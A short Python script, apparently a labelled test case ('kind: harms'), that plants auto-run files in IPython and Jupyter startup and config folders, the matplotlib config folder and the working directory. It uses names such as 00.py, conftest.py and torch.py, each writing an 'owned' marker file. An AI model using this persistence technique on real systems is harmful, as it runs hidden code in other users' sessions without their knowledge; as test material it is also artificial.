# where: first
# kind: harms
# does: Start-up scripts of IPython, Jupyter and matplotlib are left for whoever starts them next.
import os
import pathlib

import IPython
import matplotlib

folders = [IPython.paths.get_ipython_dir() + "/profile_default/startup", "@HOME@/.ipython/profile_default/startup"]
folders += ["@HOME@/.jupyter", matplotlib.get_configdir(), os.getcwd()]
for folder in folders:
    for name in ("00.py", "jupyter_notebook_config.py", "nbgrader_config.py", "matplotlibrc", "torch.py", "conftest.py"):
        try:
            pathlib.Path(folder).mkdir(parents=True, exist_ok=True)
            pathlib.Path(folder, name).write_text("open('@HOME@/owned', 'w')\n")
        except Exception as error:
            print(error)
